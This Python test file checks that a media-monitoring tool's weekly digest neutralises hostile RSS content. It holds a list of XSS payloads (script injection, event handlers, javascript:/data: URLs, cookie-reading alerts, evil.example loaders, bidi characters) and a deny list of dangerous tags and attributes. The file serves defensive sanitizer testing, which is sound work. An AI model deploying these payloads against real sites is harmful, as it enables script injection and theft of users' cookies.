"""Reliability (issue 7): hostile feed content rendered through the weekly digest.

Two routes into the digest: (1) through the feed parser, as a real feed would arrive: each XSS vector in
an item's title, description, full text and link, parsed, built into articles, stored; (2) raw, as if a
parser let everything through: the same vectors straight into stored titles, outlets, URLs and texts.
The digest of that week must keep none of them active, and titles lose bidi and zero-width characters.
feedparser's own sanitizer test payloads are added when ../shared/corpora holds them.
"""

from __future__ import annotations

import copy
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html import escape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import require_shared
from fixtures.planted import store_generated

from mediamon import reporting
from mediamon.digest import build_context, render
from mediamon.models import Article, Response
from mediamon.normalize import text_fingerprint, to_simplified
from mediamon.testing import project_config
from mediamon.testing.synth import DEFAULT_FRAME_RATES, WeekPlan, generate, iso_weeks
from mediamon.warehouse import digest_queries

WEEK = "2025-W35"
FROZEN_AT = datetime(2025, 9, 1, 8, 0, tzinfo=UTC)
SEEN = datetime(2025, 8, 31, 15, tzinfo=UTC)
ON_TOPIC = ("美国商务部更新出口管制规则，又有5家中国企业被列入实体清单。调查人员发现芯片经新加坡转口走私，执法部门加强追踪。"
            "出口管制规则要求企业在出口H20之前申请许可证。实体清单本周新增条目。")

# Written for this test: script, event handlers, dangerous URL schemes (plain, mixed case, entity- and
# whitespace-obfuscated), frames, styles, base, remote images and other resource loaders, markup that
# breaks out of attributes or comments, and invisible or direction-changing characters.
XSS_VECTORS = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/xss src=https://evil.example/x.js></script>',
    '"><script>alert(document.cookie)</script>',
    "'><script>alert(1)</script>",
    '</title><script>alert(1)</script>',
    '<!--<script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
    '<img srcset="https://tracker.example/a.png 1x">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<body onload=alert(1)>',
    '<svg onload=alert(1)><circle r=1 /></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="java\nscript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="https://ok.example/" onmouseover="alert(1)">hover</a>',
    '<div style="background:url(https://tracker.example/bg.png)">bg</div>',
    '<div style="width: expression(alert(1))">css</div>',
    '<style>@import url(https://evil.example/x.css); body{display:none}</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input type=submit></form>',
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle=alert(1)>',
    '{{ 7*7 }}{% raw %}<script>alert(1)</script>',
    '\u202eevil\u202c \u200bzero\u200dwidth\ufeff \u2066isolate\u2069 \u061cmark\u180e\U000e0041',
]
BAD_URLS = ["javascript:alert(document.cookie)", "JAVASCRIPT:alert(1)", "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)", 'https://evil.example/a?utm_source=x&id=7" onmouseover="alert(1)',
            "https://evil.example/\u202egnp.exe", "//evil.example/no-scheme"]
INVISIBLE = ("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\u200c",
             "\u200d", "\u200e", "\u200f", "\u061c", "\ufeff", "\u180e", "\U000e0041")
MARK = "敌意样本"  # every hostile item's title carries it, to see that hostile items did reach the digest


def _rss(items: list[tuple[str, str, str]]) -> bytes:
    """An RSS 2.0 feed whose items carry (title, link, html) as escaped text and as CDATA full text."""
    out = ['<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
           'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>敌意新闻</title>'
           '<link>https://hostile.example/</link><description>x</description>']
    when = datetime(2025, 8, 27, 4, tzinfo=UTC)
    for i, (title, link, html) in enumerate(items):
        out.append(f"<item><title>{escape(title)}</title><link>{escape(link)}</link>"
                   f"<guid>hostile-{i}</guid><pubDate>{(when + timedelta(minutes=i)).strftime('%a, %d %b %Y %H:%M:%S +0000')}</pubDate>"
                   f"<description>{escape(html)}</description>"
                   f"<content:encoded><![CDATA[{html.replace(']]>', ']]&gt;')}]]></content:encoded></item>")
    out.append("</channel></rss>")
    return "".join(out).encode("utf-8")


def _articles_from_feed(body: bytes, feed_url: str, feed_id: str, outlet: str) -> list[Article]:
    """Parse a feed as ingest does and build full-text articles from its entries (made on-topic)."""
    from mediamon.extract import build_article
    from mediamon.parse import parse_feed

    entries = parse_feed(Response(feed_url, 200, {"content-type": "application/rss+xml"}, body, 1.0), feed_id)
    out = []
    for e in entries:
        entry = replace(e, title=f"{e.title or ''} {MARK} 出口管制", content=f"{e.content or e.summary or ''} {ON_TOPIC}",
                        topics=("chip_controls",))
        article = build_article(entry, None, outlet=outlet, feed_text_is_full=True, first_seen_at=SEEN, min_text_chars=0)
        if article is not None:
            out.append(article)
    return out


def _raw_articles(vectors: list[str]) -> list[Article]:
    """Articles whose stored fields hold the vectors verbatim, as if nothing upstream had cleaned them."""
    out = []
    for i, vector in enumerate(vectors):
        text = f"{vector}{ON_TOPIC}{vector}第{i}篇。"
        out.append(Article(f"rawhostile{i:08d}", "hostile-raw", f"Evil {vector} Outlet", BAD_URLS[i % len(BAD_URLS)],
                           f"https://raw.example/{i}", f"{vector} {MARK} 实体清单 {vector}", None,
                           datetime(2025, 8, 27, 4, tzinfo=UTC), SEEN, "zh", "zh-Hans", text, to_simplified(text),
                           text_fingerprint(text + str(i)), len(text), "feed", topics=("chip_controls",)))
    return out


def _plans() -> list[WeekPlan]:
    """Three small background weeks, so the hostile week has trends and measures around it."""
    return [WeekPlan(w, {"chip_controls": 4, "chinese_ai": 3, "ai_valuations": 3}, copy.deepcopy(DEFAULT_FRAME_RATES))
            for w in iso_weeks("2025-W33", 3)]


def _digest_with(extra: list[Article], db: Path):
    """The WEEK digest of a generated warehouse plus these articles, rendered with a fixed clock."""
    warehouse = store_generated(generate(_plans(), seed=13), db, extra=extra)
    context = build_context(WEEK, warehouse.reports.digest_rows(WEEK, reporting.DIGEST_SECTIONS), reporting.week_shifts(warehouse, WEEK, project_config()), digest_queries(),
                            project_config().analysis.rulebook.measures, 12, FROZEN_AT)
    return render(context, "mediamon weekly digest")


class _Tags(HTMLParser):
    """Every start tag with its attributes, and whether it is inside <body>."""

    def __init__(self):
        """Collect (tag, attrs, in_body)."""
        super().__init__()
        self.tags: list[tuple[str, dict, bool]] = []
        self.in_body = False

    def handle_starttag(self, tag, attrs):
        """Record a tag."""
        self.in_body |= tag == "body"
        self.tags.append((tag, dict(attrs), self.in_body))


def assert_inert(digest) -> None:
    """No script, handler, javascript:/data:/vbscript: URL, frame, body style, base or remote resource; no invisible
    or bidi characters in subject, HTML or text."""
    html, lowered = digest.html, digest.html.lower()
    parser = _Tags()
    parser.feed(html)
    for tag, attrs, in_body in parser.tags:
        assert tag not in ("script", "iframe", "frame", "base", "img", "object", "embed", "link", "svg", "math", "form",
                           "input", "video", "audio", "source", "details"), tag
        assert tag != "meta" or not in_body, attrs
        assert tag != "style" or not in_body
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert name not in ("srcset", "srcdoc", "formaction", "xlink:href"), (tag, name)
            if name in ("href", "src", "action", "background"):
                assert (value or "").startswith(("http://", "https://")), (tag, name, value)
                assert '"' not in value and "utm_" not in value
            if name == "style":
                assert "url(" not in value and "expression" not in value, value
    for needle in ("<script", "javascript:", "vbscript:", "data:text", "data:image", "<iframe", "<base", "<object", "<embed",
                   "<svg", "tracker.example"):
        assert needle not in lowered, needle
    assert "<style" not in lowered.split("<body", 1)[1], "only the digest's own style sheet, in <head>"
    for part in (digest.subject, html, digest.text):
        assert not any(c in part for c in INVISIBLE), [hex(ord(c)) for c in INVISIBLE if c in part]
    assert "<script" not in digest.text.lower() and "javascript:" not in digest.text.lower()


@pytest.fixture(scope="module")
def hostile_digest(tmp_path_factory):
    """The digest of a week whose hostile items came through the parser and raw."""
    items = [(f"{v} 出口管制", BAD_URLS[i % len(BAD_URLS)] if i % 3 == 0 else f"https://hostile.example/{i}.html", v)
             for i, v in enumerate(XSS_VECTORS)]
    parsed = _articles_from_feed(_rss(items), "https://hostile.example/feed.xml", "hostile", 'Evil <b onclick="x()">News</b>')
    return _digest_with(parsed + _raw_articles(XSS_VECTORS), tmp_path_factory.mktemp("hostile") / "h.duckdb"), len(parsed)


@pytest.mark.reliability("no script, handler, javascript:/data: URL, iframe, style, base or remote image survives")
def test_xss_vectors_from_feeds_are_inert_in_the_digest(hostile_digest):
    """XSS vectors through the parser and raw into the digest"""
    digest, parsed = hostile_digest
    assert parsed >= len(XSS_VECTORS) * 3 // 4, "most hostile items were kept (items whose only link is unusable are dropped)"
    assert MARK in digest.html and MARK in digest.text, "hostile titles reached the digest"
    assert digest.text.count(" Outlet") >= len(XSS_VECTORS), "every raw vector reached it (as an outlet name)"
    assert_inert(digest)


@pytest.mark.reliability("bidi and zero-width characters are stripped from titles")
def test_bidi_and_zero_width_characters_are_stripped_from_titles(hostile_digest):
    """Bidi overrides and zero-width characters in titles"""
    digest, _ = hostile_digest
    assert "evil zerowidth isolate mark" in digest.text, "the visible letters stay"
    for part in (digest.subject, digest.html, digest.text):
        assert not any(c in part for c in INVISIBLE)


@pytest.mark.reliability("feedparser's sanitizer payloads are inert in the digest (skipped without ../shared)")
def test_feedparser_sanitizer_payloads_are_inert_in_the_digest(tmp_path):
    """feedparser's sanitizer test payloads into the digest"""
    root = require_shared("corpora/feeds/feedparser/tests")
    files = sorted({*root.rglob("*sanitize*"), *root.rglob("*unsafe*")})
    files = [f for f in files if f.is_file()]
    if not files:
        pytest.skip(f"{root} holds none of feedparser's sanitizer payloads (tests/*sanitize*, *unsafe*)")
    articles = []
    for i, path in enumerate(files):
        body = path.read_bytes()
        header = next((line.split(":", 1)[1].strip() for line in body.decode("utf-8", "replace").splitlines()
                       if line.startswith("Header:") and "Content-Location" in line), None)
        url = header.split(":", 1)[1].strip() if header else "https://feedparser.example/feed.xml"
        for a in _articles_from_feed(body, url, f"fp-{i}", path.stem):
            articles.append(replace(a, article_id=f"fp{i:04d}{a.article_id[6:]}",
                                    text_hash=text_fingerprint(a.text + path.name)))
    if not articles:  # feeds without items (the header cases): carry their raw markup as items instead
        articles = _raw_articles([f.read_text("utf-8", "replace") for f in files])
    assert_inert(_digest_with(articles, tmp_path / "fp.duckdb"))
